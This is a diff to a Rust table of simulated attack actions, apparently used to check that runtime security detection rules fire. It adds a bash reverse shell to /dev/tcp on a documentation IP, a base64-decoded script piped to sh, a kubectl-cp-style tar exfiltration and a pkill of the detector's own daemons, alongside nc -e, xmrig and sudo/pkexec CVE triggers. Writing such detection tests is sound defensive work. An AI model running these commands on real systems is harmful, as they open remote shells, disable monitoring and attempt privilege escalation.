@@ -27,6 +27,38 @@ pub(super) const ACTIONS: &[Action] = &[
         ..ONLY_NAMED
     },
     Action {
+        name: "program-below-server",
+        does: "has a web server start whoami",
+        rules: &["Web server started unexpected program"],
+        falco: &[],
+        mitre: "T1505.003",
+        cast: &[Part { program: "nginx", ..PART }, Part { program: "whoami", ..PART }],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "command-in-session",
+        does: "runs a command from a terminal in a container",
+        rules: &["Command in container session"],
+        falco: &[],
+        mitre: "T1609",
+        place: Place::ContainerEntry,
+        cast: &[
+            Part { program: "sh", role: Role::OpenTerminal, ..PART },
+            Part { program: "env", ..PART },
+        ],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "copy-by-kubectl",
+        does: "has the container runtime start tar, as `kubectl cp` does",
+        rules: &["Exfiltrating Artifacts via Kubernetes Control Plane"],
+        falco: &[],
+        mitre: "T1048",
+        place: Place::ContainerEntry,
+        cast: &[Part { program: "tar", args: &["cf", "-", "/{token}"], ..PART }],
+        ..ONLY_NAMED
+    },
+    Action {
         name: "program-below-database",
         does: "has a database server start another program",
         rules: &["DB program spawned process"],
@@ -52,7 +84,7 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "netcat-on-host",
         does: "runs nc -e on the host",
-        rules: &["Netcat Remote Code Execution on Host"],
+        rules: &["Netcat/Socat Remote Code Execution on Host"],
         falco: &["Netcat/Socat Remote Code Execution on Host"],
         mitre: "T1059",
         cast: &[Part {
@@ -87,6 +119,49 @@ pub(super) const ACTIONS: &[Action] = &[
         ..ONLY_NAMED
     },
     Action {
+        name: "reverse-shell-on-host",
+        does: "runs a shell with a script that connects to /dev/tcp, on the host",
+        rules: &["Reverse shell on host"],
+        mitre: "T1059.004",
+        cast: &[Part {
+            program: "bash",
+            args: &["-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 # {token}"],
+            ..PART
+        }],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "encoded-script",
+        does: "runs a shell with a script that decodes another and runs that",
+        rules: &["Encoded script run"],
+        mitre: "T1027",
+        cast: &[Part {
+            program: "sh",
+            args: &["-c", "echo aWQK | base64 -d | sh # {token}"],
+            ..PART
+        }],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "debugfs-in-container",
+        does: "runs debugfs in a container",
+        rules: &["Debugfs Launched in Privileged Container"],
+        // Its rule wants to know of the runtime that the container is privileged.
+        falco: &[],
+        mitre: "T1611",
+        place: Place::Container,
+        cast: &[Part { program: "debugfs", ..PART }],
+        ..ONLY_NAMED
+    },
+    Action {
+        name: "stop-lanner",
+        does: "runs pkill with what our daemons' names begin with",
+        rules: &["Lanner stopped by command"],
+        mitre: "T1562.001",
+        cast: &[Part { program: "pkill", args: &["lanner-{token}"], ..PART }],
+        ..ONLY_NAMED
+    },
+    Action {
         name: "copy-files-away",
         does: "runs scp in a container",
         rules: &["Launch Remote File Copy Tools in Container"],
@@ -99,7 +174,6 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "fetch-tool",
         does: "runs wget in a container",
-        rules: &["Launch Ingress Remote File Copy Tools in Container"],
         falco: &["Launch Ingress Remote File Copy Tools in Container"],
         mitre: "T1105",
         place: Place::Container,
@@ -129,7 +203,6 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "decode-payload",
         does: "runs base64 -d in a container",
-        rules: &["Decoding Payload in Container"],
         falco: &["Decoding Payload in Container"],
         mitre: "T1132",
         place: Place::Container,
@@ -139,7 +212,7 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "miner-by-arguments",
         does: "runs a program with the address of a mining pool",
-        rules: &["Detect crypto miners using the Stratum protocol"],
+        rules: &["Crypto miner started"],
         falco: &["Detect crypto miners using the Stratum protocol"],
         mitre: "T1496",
         cast: &[Part {
@@ -152,7 +225,7 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "miner-by-name",
         does: "runs xmrig",
-        rules: &["Known Cryptominer Process Executed"],
+        rules: &["Crypto miner started"],
         falco: &["Known Cryptominer Process Executed"],
         mitre: "T1496",
         cast: &[Part { program: "xmrig", ..PART }],
@@ -170,7 +243,6 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "look-around-by-hand",
         does: "runs whoami at a terminal",
-        rules: &["Basic Interactive Reconnaissance"],
         falco: &["Basic Interactive Reconnaissance"],
         mitre: "T1033",
         cast: &[
@@ -192,7 +264,8 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "sudo-overflow",
         does: "runs sudoedit with the arguments of CVE-2021-3156",
-        rules: &["Sudo Potential Privilege Escalation"],
+        rules: &["Exploit of a set-user-id program"],
+        needs: &[Need::OtherLogin],
         falco: &["Sudo Potential Privilege Escalation"],
         mitre: "T1548.003",
         cast: &[Part { program: "sudoedit", args: &["-s", "{token}", "\\"], ..PART }],
@@ -201,7 +274,8 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "pkexec-without-arguments",
         does: "runs pkexec as CVE-2021-4034 does",
-        rules: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
+        rules: &["Exploit of a set-user-id program"],
+        needs: &[Need::OtherLogin],
         falco: &["Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"],
         mitre: "T1548",
         cast: &[Part { program: "pkexec", marked: false, ..PART }],
@@ -210,7 +284,8 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "misuse-loader-environment",
         does: "runs a program with GLIBC_TUNABLES in its environment",
-        rules: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
+        rules: &["Exploit of a set-user-id program"],
+        needs: &[Need::OtherLogin],
         falco: &["Potential Local Privilege Escalation via Environment Variables Misuse"],
         mitre: "T1574.006",
         cast: &[Part { env: &[("GLIBC_TUNABLES", "glibc.malloc.check=0")], ..PART }],
@@ -219,7 +294,6 @@ pub(super) const ACTIONS: &[Action] = &[
     Action {
         name: "proxy-environment",
         does: "runs curl with HTTP_PROXY in its environment",
-        rules: &["Program run with disallowed http proxy env"],
         falco: &["Program run with disallowed http proxy env"],
         mitre: "T1204",
         cast: &[Part {
